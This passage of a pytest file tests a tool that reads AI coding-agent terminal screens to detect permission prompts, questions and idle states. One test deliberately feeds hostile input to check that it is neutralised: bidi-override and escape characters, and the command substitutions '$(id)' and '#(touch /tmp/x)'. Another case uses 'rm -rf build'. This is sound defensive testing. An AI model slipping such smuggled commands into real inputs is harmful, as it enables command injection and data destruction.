    turned = _cursor_at(generic, [*rows[:at], "⠼ thinking…"], at)
    assert turned.dialog is not None and turned.dialog.id == d.id
    # a command of two rows (0.0.5's multiline screen) is read whole; another command is
    # another dialog
    two = _cursor_at(generic, over_spinner("  $ ls -la", "touch x1.txt"), -1)
    assert two.dialog is not None and two.dialog.subject == ("  $ ls -la", "touch x1.txt")
    assert two.dialog.id != d.id
    # answered: the key echoed after the spinner's words, the spinner a row lower
    answered = [*rows[:at], "⠧ thinking…y", "⠇ thinking…"]
    assert _cursor_at(generic, answered, at + 1).state != "blocked"
    # a question asking no leave to act
    q = _cursor_at(generic, over_spinner("  $ ls", ask="Keep going? [y/N/always]"), -1)
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "yes_no_over_spinner")
    # a command cut with "..." is partial: `answer` refuses it
    cut = _cursor_at(generic, over_spinner("  $ rm -rf build && touch ..."), -1)
    assert cut.dialog is not None and cut.dialog.partial


@pytest.mark.parametrize("rows", [
    # the same rows with text typed after the prompt glyph: the user's, not the program's
    [*over_spinner("  $ ls", spinner="⠹ thinking…")[:-2], "> y", "⠹ thinking…"],
    # a key list quoted inside a sentence of a model's answer, over a chat prompt and its
    # spinner row
    ["It asks Allow shell command? [y/N] and waits.", "Then it runs.", "> ", "⠹ thinking…"],
    # a spinner row with something drawn under it
    [*over_spinner("  $ ls"), "  esc to interrupt"],
], ids=["typed", "quoted", "drawn-below"])
def test_a_yes_no_question_over_a_spinner_that_waits_for_nothing(
        generic: rules.Manifest, rows: list[str]) -> None:
    at = _last_row(rows, "⠹ thinking") if "  esc to interrupt" in rows else -1
    v = _cursor_at(generic, rows, at)
    assert not (v.state == "blocked" and v.rule_id is not None
                and v.rule_id.startswith("yes_no_over_spinner")), v.rule_id


def test_hostile_text_in_a_command_over_a_spinner_is_inert(generic: rules.Manifest) -> None:
    hostile = f"  $ rm {HOSTILE} \u2066x\u2069 #(touch /tmp/x) " + "A" * 10_000
    v = _cursor_at(generic, over_spinner(hostile, "echo $(id)"), -1)
    assert (v.state, v.rule_id) == ("blocked", "yes_no_over_spinner_permission")
    d = v.dialog
    assert d is not None and d.subject
    text = "\n".join([d.question, *d.subject])
    for bad in ("\x1b", "\x07", "\u202e", "\u2066", "\u2069"):
        assert bad not in text, repr(bad)
    assert "echo $(id)" in d.subject


def test_a_triangle_alone_on_the_cursors_row_is_a_line_chats_prompt(
        generic: rules.Manifest) -> None:
    """Axons 0.1.3's prompt "▶ " (Rich's console.input) alone on the cursor's row under its
    last answer: idle, whether the session just started or a turn ended; the same glyph with
    a line entered after it ("▶ describe the project", the cursor under it) is none."""
    for screen in ("idle--prompt.txt", "done--answer.txt"):
        rows = _screen(HELD_OUT / "axons-0.1.3" / "screens" / screen)[:-1]
        at = _last_row(rows, "▶")
        v = _cursor_at(generic, rows, at, 2)
        assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), screen
    for glyph in ("▸", "➤", "❱"):
        v = _cursor_at(generic, ["Two plus two is four.", "", f"{glyph} "], -1, 2)
        assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), glyph
    typed = _cursor_at(generic, ["▶ describe the project", ""], -1, 0)
    assert typed.rule_id != "line_chat_prompt"


def test_a_numbered_question_in_a_panel_over_your_answer(generic: rules.Manifest) -> None:
    """Axons 0.1.3's question: a panel "❓ Axon needs input" holding the question, a blank
    row, "  1. Red" ... "  3. Blue", a blank row and its hint "Enter a number or type your
    own answer", then "Your answer: " under the panel: a question, its numbers typed with
    Enter. A bare "Answer: " is still no prompt of a question (prose)."""
    rows = _screen(HELD_OUT / "axons-0.1.3" / "screens" / "blocked-question--question.txt")[:-1]
    at = _last_row(rows, "Your answer:")
    v = _cursor_at(generic, rows, at)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_numbered_question")
    assert v.dialog is not None
    assert v.dialog.question == "Which color do you prefer?"
    assert [(o.label, o.key) for o in v.dialog.options] == [
        ("Red", "1"), ("Green", "2"), ("Blue", "3")]
    assert dialog.keys_for(v.dialog, v.dialog.options[2]) == ["3", "\r"]
    bare = [*rows[:at], "Answer: "]
    assert _cursor_at(generic, bare, at).rule_id != "line_numbered_question"
    # answered: the number entered, the cursor under it
    answered = [*rows[:at], "Your answer: 1", ""]
    assert _cursor_at(generic, answered, at + 1, 0).state != "blocked"


def test_arguments_cut_by_the_program_leave_the_permission_partial(
        generic: rules.Manifest) -> None:
    """Axons 0.1.3 prints a call's arguments as JSON under "[Axon needs approval]" and cuts
    them at 500 characters without a word ('...touch f31.txt\\ntouc', no closing quote or
    brace) over "Run this? (Y/n): ": the command shown is not the command run, so the
    dialog is partial and `answer` refuses it; its whole arguments are not."""
    screens = HELD_OUT / "axons-0.1.3" / "screens"
    rows = _screen(screens / "blocked-permission--long-command.txt")[:-1]
    v = _cursor_at(generic, rows, _last_row(rows, "Run this?"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    assert v.dialog is not None and v.dialog.partial
    assert v.dialog.subject[-1].endswith("touc")
    rows = _screen(screens / "blocked-permission--bash.txt")[:-1]
    whole = _cursor_at(generic, rows, _last_row(rows, "Run this?"))
    assert whole.dialog is not None and not whole.dialog.partial
    assert '  "command": "sleep 3 && mkdir -p out && echo hi > out/x.txt",' in whole.dialog.subject


NRGRD = HELD_OUT / "nrgrd-0.2.2" / "screens"


def test_a_line_prompt_whose_keys_markup_left_bare_is_read_at_the_cursor_only(
        generic: rules.Manifest) -> None:
    """nrgrd 0.2.2 asks under its panel "Nrgrd wants to run: shell" (the command) with
    Rich's line prompt "Allow?  Yes   No   Always allow this tool this session [y/n/a]
    (n): " (its "[y]", "[n]", "[a]" eaten as markup, the words left apart by blanks): a
    permission on the cursor's row, its subject the command. Answered ("(n): y", the
    call's result panel under it, the cursor under that), the same row is no dialog of
    buttons on one row, nor any permission."""
    rows = _screen(NRGRD / "blocked-permission--bash.txt")[:-1]
    at = _last_row(rows, "Allow?")
    v = _cursor_at(generic, rows, at)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    assert v.dialog is not None and not v.dialog.partial
    assert v.dialog.subject == ("sleep 3 && mkdir -p out && echo hi > out/x.txt",)
    assert [(o.label, o.key) for o in v.dialog.options] == [("yes", "y"), ("no", "n")]
    edge = "─" * 118
    answered = [*rows[:at], rows[at].rstrip() + " y", f"╭{edge}╮", f"│ {'shell':<117}│",
                f"│ {'exit code 0':<117}│", f"│ {'(no output)':<117}│", f"╰{edge}╯", ""]
    after = _cursor_at(generic, answered, len(answered) - 1, 0)
    assert after.state != "blocked", after.rule_id


def test_a_line_prompt_quoted_or_entered_at_the_chats_prompt_is_none(
        generic: rules.Manifest) -> None:
    """nrgrd 0.2.2's negatives: the dialog's words entered at "nrgrd> " (the line stays on
    its row, the panel "User" echoes it under it, the cursor under the panel while the
    model is asked) and quoted in the answer's panel with a sentence after it: neither is
    a dialog (the first is the user's line, the second a quote)."""
    rows = _screen(NRGRD / "done--quoted-dialog.txt")[:-1]
    prompt = _last_row(rows, "nrgrd>")
    quoted = _cursor_at(generic, rows, prompt, 7)
    assert quoted.state == "idle", quoted.rule_id
    line = _last_row(rows, "nrgrd> Nrgrd wants to run")
    edge = "─" * 118
    said = rows[line][len("nrgrd> "):].rstrip()
    entered = [*rows[:line + 1], f"╭{edge}╮", f"│ {said:<117}│", f"╰{edge}╯", ""]
    v = _cursor_at(generic, entered, len(entered) - 1, 0)
    assert v.state != "blocked", v.rule_id
    # the same question with its keys at the conversation's margin over an input box is
    # still a dialog (input_keys_permission)
    asked = [*rows[:line], said, f"╭{edge}╮", f"│ {'':<117}│", f"╰{edge}╯", ""]
    live = _cursor_at(generic, asked, len(asked) - 2, 2)
    assert (live.state, live.rule_id) == ("blocked", "input_keys_permission")


AIC = HELD_OUT / "aic-2.7.0" / "screens"


def test_a_modal_titled_in_its_top_edge_over_edged_buttons_is_a_permission(
        generic: rules.Manifest) -> None:
    """AI-Commander 2.7.0 (Textual) draws its approval as a modal of double edges over the
    middle of the screen, titled in its top edge ("╔═ Approve command ═══╗"), the command in
    it and three buttons drawn with eighth-block edges ("Yes (y)   No (n)   Always (a)"),
    also with a command of 61 rows scrolled in it (the title twenty rows above the
    buttons): a permission, its command read nowhere (partial: `answer` refuses it). Its
    quit box, "Quit AI-Commander?" over "Quit (y)   Stay (n)", is a question."""
    for screen in ("blocked-permission--bash.txt", "blocked-permission--long-command.txt"):
        rows = _screen(AIC / screen)[:-1]
        v = _cursor_at(generic, rows, -1, 0)
        assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                               "tui_dialog_buttons_edged"), screen
        assert v.dialog is not None and v.dialog.partial, screen
    rows = _screen(AIC / "blocked-permission--bash.txt")[:-1]
    top = next(i for i, x in enumerate(rows) if "╔═ Approve command" in x)
    quit_box = [x.replace("Approve command", "Quit═══════════") if i == top else x
                for i, x in enumerate(rows)]
    at = next(i for i, x in enumerate(quit_box) if "The agent wants to run" in x)
    quit_box[at] = quit_box[at].replace("The agent wants to run this command:",
                                        "Quit AI-Commander?                  ")
    at = next(i for i, x in enumerate(quit_box) if "Yes (y)" in x)
    quit_box[at] = quit_box[at].replace("Yes (y)", "Quit (y)").replace(
        "No (n)", "Stay (n)").replace("Always (a)", "          ")
    q = _cursor_at(generic, quit_box, -1, 0)
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "tui_question_buttons_edged")


def test_a_status_row_that_says_it_waits_for_the_user(generic: rules.Manifest) -> None:
    """AI-Commander's status row under its prompt box says what it waits for: " ◆ waiting
    for your approval  step 1/500 │ ..." (a permission, partial: its command read
    nowhere) and " ? waiting for your answer ..." (its question, asked in its log and
    answered in the prompt box); " ● ready ..." with its prompt box's placeholder "Type a
    task or /command…" is idle, " ⠧ thinking 2.6s ..." over the same box working; the
    words in a row of prose are none."""
    rows = _screen(AIC / "blocked-question--question.txt")[:-1]
    v = _cursor_at(generic, rows, -1, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_status_waiting_question")
    status = next(i for i, x in enumerate(rows) if "waiting for your answer" in x)
    rows[status] = rows[status].replace("? waiting for your answer",
                                        "◆ waiting for your approval")
    v = _cursor_at(generic, rows, -1, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                           "tui_status_waiting_permission")
    assert v.dialog is not None and v.dialog.partial and not v.dialog.options
    rows[status] = " I am waiting for your approval before I go on."
    assert _cursor_at(generic, rows, -1, 0).state != "blocked"
    idle = _cursor_at(generic, _screen(AIC / "idle--prompt.txt")[:-1], -1, 0)
    assert (idle.state, idle.rule_id) == ("idle", "tui_composer_panel_hint")
    busy = _cursor_at(generic, _screen(AIC / "working--thinking.txt")[:-1], -1, 0)
    assert busy.state == "working"


def test_a_numbered_question_alone_in_a_box_over_its_options(generic: rules.Manifest) -> None:
    """OneFirewall AI 0.3.0: "╭── Question ──╮", "│ Which color do you prefer? │",
    "╰──╯", then "  1) Red" ... "  3) Blue" and "Your answer (number or text): ": a
    question, its numbers typed with Enter."""
    rows = _screen(HELD_OUT / "onefirewall-0.3.0" / "screens"
                   / "blocked-question--question.txt")[:-1]
    at = _last_row(rows, "Your answer")
    v = _cursor_at(generic, rows, at)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_numbered_question")
    assert v.dialog is not None
    assert [(o.label, o.key) for o in v.dialog.options] == [
        ("Red", "1"), ("Green", "2"), ("Blue", "3")]


NEO = HELD_OUT / "neo-0.1.14" / "screens"


def test_buttons_stacked_in_a_modals_box(generic: rules.Manifest) -> None:
    """neo 0.1.14 (Textual) draws its approval as a box over the whole screen, "│
    permission required │", the command, then its buttons stacked between eighth-block
    edges inside the box's edges, a blank row between ("Allow once", "Always allow",
    "Reject"): a permission; a command wrapped over many rows pushes all but the first
    button out of the box, which still asks; its question's box stacks one button a choice
    ("red", "green", "blue") under "Color: Which color do you prefer?": a question. No
    options read (the focus a colour: `answer` types nothing)."""
    rows = _screen(NEO / "blocked-permission--multiline-1.txt")[:-1]
    v = _cursor_at(generic, rows, -1, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_buttons_stacked")
    rows = _screen(NEO / "blocked-permission--multiline-2.txt")[:-1]
    v = _cursor_at(generic, rows, -1, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                           "tui_dialog_titled_box_button")
    assert v.dialog is not None and v.dialog.partial and not v.dialog.options
    rows = _screen(NEO / "blocked-question--question.txt")[:-1]
    q = _cursor_at(generic, rows, -1, 0)
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "tui_question_buttons_stacked")
    assert q.dialog is not None and q.dialog.question.endswith("Which color do you prefer?")
    # the same rows quoted as text, no edges: none
    text = [x.replace("▔", " ").replace("▁", " ") for x in _screen(
        NEO / "blocked-permission--multiline-1.txt")[:-1]]
    assert _cursor_at(generic, text, -1, 0).rule_id not in (
        "tui_dialog_buttons_stacked", "tui_dialog_titled_box_button")
